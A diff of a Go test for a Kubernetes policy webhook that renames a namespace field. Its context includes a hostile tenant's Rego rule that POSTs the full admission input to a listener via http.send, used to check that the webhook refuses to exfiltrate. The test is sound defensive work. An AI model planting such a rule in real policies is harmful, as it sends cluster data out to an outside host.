@@ -213,7 +213,7 @@ func TestHostileTenantChangesNothing(t *testing.T) {
 		}
 		// An administrator's policy ConfigMap, created after the tenant's: once it is in force,
 		// the webhook has read the policy ConfigMaps it follows since the tenant's was created.
-		if _, err := cluster.Client.CoreV1().ConfigMaps(r.namespace).Create(ctx, probePolicy(r.namespace, "admin-probe", "admin_probe"), metav1.CreateOptions{}); err != nil {
+		if _, err := cluster.Client.CoreV1().ConfigMaps(r.Namespace).Create(ctx, probePolicy(r.Namespace, "admin-probe", "admin_probe"), metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
 		cluster.WaitFor(t, 2*time.Minute, "the administrator's policy is in force", func(context.Context) (bool, string) {
@@ -254,11 +254,11 @@ func TestHostileTenantChangesNothing(t *testing.T) {
 				"violation contains {\"field\": \"metadata.name\", \"msg\": \"sent\"} if {\n" +
 				"\thttp.send({\"method\": \"POST\", \"url\": \"" + listener.URL + "\", \"body\": input}).status_code == 200\n}\n"},
 		}
-		if _, err := cluster.Client.CoreV1().ConfigMaps(r.namespace).Create(ctx, leak, metav1.CreateOptions{}); err != nil {
+		if _, err := cluster.Client.CoreV1().ConfigMaps(r.Namespace).Create(ctx, leak, metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
 		cluster.WaitFor(t, 2*time.Minute, "the policy error on the ConfigMap", func(ctx context.Context) (bool, string) {
-			cm, err := cluster.Client.CoreV1().ConfigMaps(r.namespace).Get(ctx, "leak", metav1.GetOptions{})
+			cm, err := cluster.Client.CoreV1().ConfigMaps(r.Namespace).Get(ctx, "leak", metav1.GetOptions{})
 			if err != nil {
 				return false, err.Error()
 			}
